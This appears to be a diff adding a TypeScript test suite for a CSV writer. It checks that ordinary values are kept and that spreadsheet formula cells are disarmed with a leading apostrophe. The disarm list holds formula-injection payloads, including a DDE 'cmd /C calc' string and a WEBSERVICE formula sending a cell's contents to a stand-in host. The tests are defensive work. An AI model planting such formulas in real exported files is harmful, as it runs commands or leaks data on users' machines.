@@ -1,0 +1,96 @@
+import fc from 'fast-check';
+import { parse } from 'papaparse';
+import { writeCsv } from './csv';
+
+const readBack = (csv: string) => parse<string[]>(csv, { skipEmptyLines: false }).data.slice(0, -1);
+const written = (text: string) => readBack(writeCsv([['first', text]]))[0]?.[1];
+
+it.each([
+  '+919840012345',
+  '+91 98400 12345',
+  '+91-98400-12345',
+  '+91 (0)98400-12345',
+  '+91 98400 12345 (office)',
+  '-5',
+  '-1,234.50',
+  '-560.00',
+  '- 12, Gandhi Road',
+  '-12/4 Gandhi Road',
+  '-near temple',
+  '-near',
+  '- Flat 4(B), Lake View',
+  '- 12, Gandhi Road (near the temple)',
+  '-B2, Ganga Apartments\nKochi 682001',
+  '- Ring twice! Then wait.',
+  '--- 4th floor ---',
+  '@home',
+  '+ Asha & Sons',
+  '-',
+  "'quoted'",
+  ' two  spaces ',
+  '4, "Lake" View\r\nKochi',
+  'Asha; Ravi\tMenon',
+  'தமிழ் 👩‍🌾',
+  'A=1',
+  '',
+])('writes %j literally', (text) => {
+  expect(written(text)).toBe(text);
+});
+
+it.each([
+  '=1',
+  '=HYPERLINK("https://evil.example")',
+  '= 5 kg',
+  '＝1+1',
+  ' =1+1',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '\u200B=1+1',
+  '\u0000=1+1',
+  '+1+1',
+  '-2+3',
+  '-2-3',
+  '－2＋3',
+  '--5',
+  '+A1',
+  '-$B$2*2',
+  '+(1)',
+  '-1%*2',
+  '-"a"&"b"',
+  '@SUM(1)',
+  '＠SUM(1)',
+  '@ SUM(1+9)',
+  '-SUM (1)',
+  '+sum(A1:A9)',
+  '-near(1)',
+  '-2+3+WEBSERVICE("https://evil.example/"&A1)',
+  `+1+cmd|' /C calc'!A0`,
+  `-2+3+cmd|' /C calc'!A0`,
+  `@SUM(1+9)*cmd|' /C calc'!A0`,
+  `-Sheet2!A1`,
+])('disarms %j, which a spreadsheet would run', (text) => {
+  expect(written(text)).toBe(`'${text}`);
+});
+
+it('writes numbers as they are, and nothing for a missing value', () => {
+  expect(writeCsv([[-5, 0, 1.5, null, undefined, '-2.50'], ['b']])).toBe('-5,0,1.5,,,-2.50\r\nb\r\n');
+});
+
+it('is read back as it was, except for an apostrophe before a formula', () => {
+  const cell = fc.oneof(
+    fc.string({ unit: 'grapheme' }),
+    fc.string({ unit: fc.constantFrom(...'=+-@ \t\r\n",;\'(1A!|') }),
+  );
+  fc.assert(
+    fc.property(fc.array(fc.array(cell, { minLength: 2, maxLength: 5 }), { minLength: 1, maxLength: 5 }), (rows) => {
+      // A parser that looks for line ends by itself is misled by a single one in a value.
+      const { data } = parse<string[]>(writeCsv(rows), { newline: '\r\n', delimiter: ',' });
+      expect(
+        data
+          .slice(0, -1)
+          .map((row, line) => row.map((text, place) => (text === `'${rows[line]?.[place]}` ? text.slice(1) : text))),
+      ).toEqual(rows);
+    }),
+  );
+});
